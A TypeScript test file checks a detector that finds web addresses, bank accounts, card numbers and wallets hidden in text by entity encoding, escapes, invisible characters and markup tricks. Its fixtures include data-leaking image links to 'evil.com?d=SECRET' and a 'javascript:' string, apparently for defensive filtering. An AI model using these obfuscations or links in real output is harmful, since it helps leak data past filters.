import { describe, expect, it } from 'vitest'
import { addressesIn } from './addresses.ts'
import { SearchBudget } from './search-budget.ts'

const found = (text: string) => [...(addressesIn(text, new SearchBudget()) ?? [])]

describe('addresses in a text', () => {
  it.each([
    ['a link with named entities', '<a href="https&colon;&sol;&sol;evil&period;com">x</a>', 'https://evil.com'],
    ['an image with numbers', '<img src="&#104;ttps&#58;&#47;&#47;evil.com?d=SECRET">', 'https://evil.com?d=SECRET'],
    ['numbers without a semicolon', '<img src="&#x68ttps&#58//evil.com/">', 'https://evil.com/'],
    ['entities of entities', 'https&amp;colon;&amp;sol;&amp;sol;evil.com', 'https://evil.com'],
    ['letters of other alphabets', '&escr;vil.com', 'evil.com'],
    ['escapes of Markdown', String.raw`![x](https\:\/\/evil\.com\/?d=SECRET)`, 'https://evil.com/?d=SECRET'],
    ['escapes of programs', String.raw`evil\u002ecom`, 'evil.com'],
    ['percent signs', 'evil%2ecom', 'evil.com'],
    ['quoted printable', 'evil=2Ecom', 'evil.com'],
    ['a soft line end', 'evil=\n.com', 'evil.com'],
    ['line ends in an attribute', 'href="ht\ntps:\n/\n/evil\n.com"', 'https://evil.com'],
    ['tabs by name in an attribute', '<a href="ht&Tab;tps://evil&NewLine;.com">', 'https://evil.com'],
    ['blanks in a target', '[x]( ht tps://evil.com )', 'https://evil.com'],
    ['a joiner', 'evil.\u034fcom', 'evil.com'],
    ['a variation selector', 'evil.\ufe0fcom', 'evil.com'],
    ['a soft hyphen', 'ev\u00adil.com', 'evil.com'],
    ['a mark on a letter', 'e\u0301vil.com', undefined],
    ['another full stop', 'evil。com', 'evil.com'],
    ['wide letters', 'ｅｖｉｌ．ｃｏｍ', 'evil.com'],
    ['a reference', '[1]: evil', 'evil'],
    ['a relative link', '<a href=/logout>', '/logout'],
    ['a style', 'background: url( "x/y" )', 'x/y'],
    ['a handle', 'write to @evil_eve', '@evil_eve'],
    ['a payment id', 'pay eve@okbank', 'eve@okbank'],
    ['a bank account', 'routing 021000021, account 123456789', '123456789'],
    ['a routing number', 'routing 021000021, account 123456789', '021000021'],
    ['a sort code', 'sort code 20-00-00, account 55779911', '20-00-00'],
    ['an account that looks like years', 'account 2024-20 24-2024-01', '24-2024-01'],
    ['a phone number', 'call +1 (555) 123-4567', '1 (555) 123-4567'],
    ['a card', '4111 1111 1111 1111', '4111 1111 1111 1111'],
    ['other digits', 'account ١٢٣٤٥٦٧٨', '١٢٣٤٥٦٧٨'],
    ['a computer', 'ping 1.2.3.4', '1.2.3.4'],
    ['a shared folder', String.raw`open \\evil\share`, String.raw`\\evil\share`],
    ['an account', 'GB29 NWBK 6016 1331 9268 19', 'GB29 NWBK 6016 1331 9268 19'],
    ['a wallet', 'bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq', 'bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq'],
    ['a longer wallet', `4${'8aB'.repeat(31)}`, `4${'8aB'.repeat(31)}`],
    ['an invoice', `lnbc2500u1${'pvjluez'.repeat(30)}`, `lnbc2500u1${'pvjluez'.repeat(30)}`],
    ['a host behind CJK words', '请看evil.com谢谢', undefined],
    ['a script', 'javascript:alert(1)', 'javascript:alert(1'],
    ['an old entity without a semicolon', 'evil.&shycom', 'evil.com'],
    ['numbers with zeros before them', 'evil&#00000000000046;com', 'evil.com'],
    ['hexadecimal numbers with zeros', 'evil&#x00000000000002e;com', 'evil.com'],
    ['a tag inside of a word', 'evil.<b></b>com', 'evil.com'],
    ['a tag with signs in its attributes', `evil.<b title=">" x='<' ="><i></i>com`, 'evil.com'],
    ['a comment', 'evil.<!-- < --><!-->com', 'evil.com'],
    ['entities and tags', 'evil&period;<wbr>com', 'evil.com'],
    ['emphasis', 'evil.*c*om', 'evil.com'],
    ['code', 'evil.`com`', 'evil.com'],
    ['emphasis behind a tag without an end', 'I <x evil.*c*om', 'evil.com'],
    ['an account in parts', 'account 12<b></b>34<i>56</i>78', '12345678'],
    ['dashes', 'sort code 20\u201300\u201300', '20\u201300\u201300'],
    ['hyphens that do not break', 'call +1\u2011555\u2011123\u20114567', '1\u2010555\u2010123\u20104567'],
    ['a link in what looks like another', '[a](#<a href="ht\ntps:\n/\n/evil\n.com">', undefined],
    ['a link in what looks like a fragment', 'href="#<a href="ht\ntps:\n/\n/evil\n.com">', undefined],
    ['a target behind many blanks', `<a href="${'\n'.repeat(5_000)}ht\ntps:\n/\n/evil\n.com">`, 'https://evil.com'],
    ['the end of a target', `<a href="https://a.org${'\n'.repeat(5_000)}.ev\nil\n.\nio/">`, 'https://a.org.evil.io/'],
    ['a reference behind many blanks', `[x]:${' '.repeat(50)}../evil`, '../evil'],
    ['more images', '<link imagesrcset="ht\ntps:\n/\n/evil\n.com">', 'https://evil.com'],
    ['escapes of styles', String.raw`<p style="background:\75 rl(\68 ttps\3a\2f\2f evil\2e com)">`, 'https://evil.com'],
    ['octal escapes', String.raw`evil\056com`, 'evil.com'],
    ['a coded subject', '=?utf-8?B?Z28gdG8gZXZpbC5jb20=?=', 'evil.com'],
    ['a coded subject in parts', '=?utf-8?q?go_to_evil?=\r\n =?utf-8?q?=2Ecom?=', 'evil.com'],
    ['another full stop in percent signs', 'evil%EF%BC%8Ecom', 'evil.com'],
    ['another full stop in quoted printable', 'evil=E3=80=82com', 'evil.com'],
    ['a soft line end behind a blank', 'evil= \n.com', 'evil.com'],
    ['named letters', 'evil.&ell;i', 'evil.li'],
    ['named digits', 'account 1234&sup1;&sup2;&sup3;', '1234123'],
    ['named blanks that nobody sees', 'evil&NegativeThinSpace;.com', 'evil.com'],
    ['signs for a terminal', 'ev\u001b[0mil\u001b[1m.com', 'evil.com'],
    ['characters that mail programs skip', 'evil\u0000.com', 'evil.com'],
    ['line ends in any attribute', '<img lowsrc="ht\ntps:\n/\n/evil\n.com">', 'https://evil.com'],
    ['emphasis by underscores', 'Go to _evil_.__com__ now', 'evil.com'],
    ['emphasis by one tilde', 'Go to ~evil~.com', 'evil.com'],
    ['a link in a host', 'Go to [evil](#a)[.][](#b)com', 'evil.com'],
    ['a reference in a host', 'Go to [evil][].com', 'evil.com'],
    ['a link to a known page in a host', '[evil](https://example.org "x").com', 'evil.com'],
    ['signs of wikis and chats', "'''evil'''||.||==com==", 'evil.com'],
    ['signs of another editor', 'evil{*}.{*}com', 'evil.com'],
    ['a dot in brackets', 'evil[.]com or eve(at)evil[dot]com', 'eve@evil.com'],
    ['an escaped blank', 'evil\\ .com', 'evil.com'],
    ['an account over lines', 'DE89\n3704\n0044\n0532\n0130\n00', 'DE89\n3704\n0044\n0532\n0130\n00'],
    ['digits over lines', 'account 12\n34\n56\n78', '12\n34\n56\n78'],
    ['other schemes', 'sip:evil', 'sip:evil'],
    ['a set of images', 'image-set("x/y" 1x)', 'x/y'],
  ])('are found: %s', (_, text, address) => {
    if (address === undefined) expect(found(text)).not.toEqual([])
    else expect(found(text)).toContain(address)
  })

  it.each([
    'Meet on 2024-05-20 at 12:00, or on 20.05.2024.',
    'From 2019-2024 we spent 1,250,000.50 on it, 99.90 a month.',
    'See chapter 1.2, e.g. the 3rd page; that is all... And more.',
    'One, two, three. 12 15 3',
    '# Title\n\n- [ ] task (done)\n',
    '<p>Thanks.</p><p>Bob</p><br>Nothing<hr/>else. <b>One</b> < two <',
    'See [above](#the-title), `code` and **more**. *Done.*',
  ])('are not seen where there are none: %s', (text) => {
    expect(found(text)).toEqual([])
  })

  it.each([
    ['https://example.org/~ann/a_b_c/d'],
    ['[the report](https://example.org/a_b)', 'https://example.org/a_b'],
    ['(https://example.org/)', 'https://example.org/'],
    ['Read https://example.org/%C3%A4/~x now.', 'https://example.org/%C3%A4/~x'],
  ])('are found once where nothing hides them: %s', (text, address = text) => {
    expect(found(text)).toEqual([address])
  })

  it('have no letters by names that only begin like those of letters', () => {
    expect(found('&escr;vil.com')).toContain('evil.com')
    expect(found('&escrx;vil.com')).not.toContain('evil.com')
  })

  it('are unknown if the text grows too long', () => {
    expect(addressesIn('\ufdfa'.repeat(32_000), new SearchBudget())).toBeUndefined()
  })
})
